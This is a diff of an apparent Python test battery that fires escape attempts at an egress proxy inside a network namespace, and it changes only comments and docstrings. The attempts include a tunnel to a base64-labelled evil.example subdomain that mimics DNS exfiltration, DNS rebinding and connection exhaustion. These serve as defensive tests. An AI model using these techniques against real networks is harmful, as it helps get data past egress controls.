@@ -1,8 +1,8 @@
 """The battery of escapes against the egress proxy, in a network namespace of its own. One process is everything:
 
 - pods, which are source addresses;
-- an internet: servers on public, private and special addresses, which answer whatever name they are asked for;
-- the egress proxy, as the product runs it, but for the feed and DNS, which are dictionaries here.
+- an internet: servers on public, private and special addresses, which answer for every name;
+- the egress proxy, as the product runs it, except for the feed and DNS, which are dictionaries here.
 
 `run` starts it, and returns what each attempt saw.
 """
@@ -71,11 +71,11 @@ from verifier.records import AddressChange, AddressVersion, PodAddresses
 TOP = Path(__file__).parents[3]
 
 WAIT_SECONDS = 20.0
-"""For what happens at once."""
+"""Seconds for things that happen immediately."""
 
 PROXY, PROXY6 = "10.42.255.1", "fd42::1"
 CUT = Pod(PROXY, "10.42.0.7")
-"""One whose tier changes."""
+"""A pod whose tier changes."""
 
 PODS = {
     LISTED: Pod(PROXY, "10.42.0.5"),
@@ -109,11 +109,11 @@ EXCEPT = [
     "fec0::/10",
     "ff00::/8",
 ]
-"""As `except` in values.yaml."""
+"""The same as `except` in values.yaml."""
 
 
 class Lab:
-    """The proxy on a loop of its own thread, and what the reconciler would publish."""
+    """The proxy on the event loop of its own thread, and the state that the reconciler would publish."""
 
     def __init__(self) -> None:
         closed = NetworkSet(ipaddress.ip_network(cidr) for cidr in EXCEPT)
@@ -124,7 +124,7 @@ class Lab:
             {"github.com/org/course": HostList(["api.course.example", "private.example"])},
         )
         self.rebound = 0
-        self.later = 0.0  # seconds that answers of DNS are older than they are
+        self.later = 0.0  # seconds by which answers of DNS appear older
         self.asked: set[str] = set()
         self.loop = asyncio.new_event_loop()
         self.proxy = Proxy(
@@ -148,7 +148,7 @@ class Lab:
         self._kept = [asyncio.create_task(task) for task in (self.proxy.serve(listen(PORT)), self.proxy.watch(), self._beat())]
 
     async def _beat(self) -> None:
-        """As the reconciler does: what is known counts for half a minute after its last word."""
+        """Publish as the reconciler does: the state is valid for half a minute after its last message."""
         while True:
             self.proxy.identities.apply(AddressChange(AddressVersion(self._known)))
             await asyncio.sleep(1)
@@ -157,7 +157,7 @@ class Lab:
         return time.monotonic() + self.later
 
     def resolve(self, name: str) -> list[str]:
-        """As DNS would. One name has another address with every question."""
+        """Resolve as DNS would. One name has another address in every answer."""
         self.asked.add(name)
         if name == "rebind.example":
             self.rebound += 1
@@ -165,7 +165,7 @@ class Lab:
         return addresses(name)
 
     def publish(self, user: str, pod: Pod, tier: str, blocked: bool = False, repository: str = "") -> None:
-        """Publish a pod, as the reconciler does; returns when the proxy knows."""
+        """Publish a pod, as the reconciler does, and wait until the proxy knows it."""
         self._version += 1
         pods = (PodAddresses(f"uid-{user}", user, "", (pod.address,), tier, blocked, repository),) if tier else ()
         change = AddressChange(AddressVersion(self._version), f"{user}/", pods)
@@ -178,7 +178,7 @@ class Lab:
 
 
 def one_after_the_other() -> list[Attempt]:
-    """Those that change something, or use something up."""
+    """The attempts that change something, or use something up."""
 
     def rebound(lab: Lab) -> str:
         def wait() -> None:
@@ -187,7 +187,7 @@ def one_after_the_other() -> list[Attempt]:
         return rebinding(PODS[ANY], wait)
 
     def unasked(lab: Lab) -> str:
-        """Refused by its name, before anybody asks for the address."""
+        """Refused by its name, before the address is looked up."""
         seen = tunnel(PODS[LISTED], "c2VjcmV0.evil.example:443", "x")
         return f"{seen}, {'REACHED DNS' if 'c2VjcmV0.evil.example' in lab.asked else 'DNS was not asked'}"
 
@@ -199,7 +199,7 @@ def one_after_the_other() -> list[Attempt]:
         return f"{first}, then {tunnel(CUT, 'evil.example:443', 'evil.example')}"
 
     def endless(pod: Pod) -> tuple[socket.socket, socket.socket]:
-        """A download by TLS, and one by plain HTTP."""
+        """A download with TLS, and one with plain HTTP."""
         context = ssl._create_unverified_context()
         connection, _ = open_tunnel(pod, "evil.example:443")
         secure = context.wrap_socket(connection, server_hostname="evil.example")
@@ -236,7 +236,7 @@ def one_after_the_other() -> list[Attempt]:
         return changed
 
     def kept(lab: Lab) -> str:
-        """A tunnel to a host that both tiers have stays."""
+        """A tunnel to a host of both tiers stays open."""
         lab.publish("cut", CUT, "full")
         context = ssl._create_unverified_context()
         connection, _ = open_tunnel(CUT, "ok.example:443")
@@ -248,7 +248,7 @@ def one_after_the_other() -> list[Attempt]:
             return receive(secure)
 
     def crowd(lab: Lab) -> str:
-        """One pod holds all connections that it may; another one works."""
+        """One pod holds as many connections as allowed; another pod still works."""
         while lab.proxy.open:
             time.sleep(0.05)
         held = [connect(CUT) for _ in range(70)]
@@ -281,12 +281,12 @@ def one_after_the_other() -> list[Attempt]:
 
 
 def made() -> list[Attempt]:
-    """All that are made here."""
+    """All attempts that are made here."""
     return [attempt for attempt in (*attempts(), *one_after_the_other()) if LAB in attempt.where]
 
 
 def run() -> dict[str, list]:
-    """Run the battery: attempt → [whether it ended as it must, what was seen]."""
+    """Run the battery. Returns attempt → [whether it ended as it must, what was seen]."""
     return in_namespace(__spec__.name)
 
 
@@ -296,7 +296,7 @@ def in_namespace(module: str, *arguments: str, resolver: str = "") -> dict:
     Args:
         module: the program.
         arguments: its arguments.
-        resolver: the address of its DNS server; empty: that of the machine, which is not there.
+        resolver: the address of its DNS server; empty: the machine's, which does not exist there.
     """
     inside = ["ip link set lo up"]
     pods = (pod.address for pod in (CUT, *PODS.values()))
@@ -322,8 +322,8 @@ def begin(folder: Path) -> Lab:
 
 
 def main() -> None:
-    """In the namespace: make all attempts, and print what each saw."""
-    # All of this is on one machine, which may be slow: what is answered must not be taken for what is not.
+    """In the namespace: make all attempts, and print the results."""
+    # All of this is on one machine, which may be slow. Late answers must not count as missing.
     attempts_of_pods.answer_seconds = WAIT_SECONDS
     proxy_connections.HELLO_SECONDS = 3.0
     proxy_connections.LINGER_SECONDS = 0.2
@@ -333,7 +333,7 @@ def main() -> None:
     with ThreadPoolExecutor(8) as pool:
         seen = pool.map(lambda attempt: act(attempt, PODS[attempt.pod]), side_by_side)
         found = dict(zip((attempt.id for attempt in side_by_side), seen, strict=True))
-    # A tunnel without a ClientHello does not end by itself before it is looked at.
+    # A tunnel without a ClientHello must not end by itself before the test looks at it.
     proxy_connections.HELLO_SECONDS = 4 * WAIT_SECONDS
     for attempt in one_after_the_other():
         found[attempt.id] = act(attempt, lab)
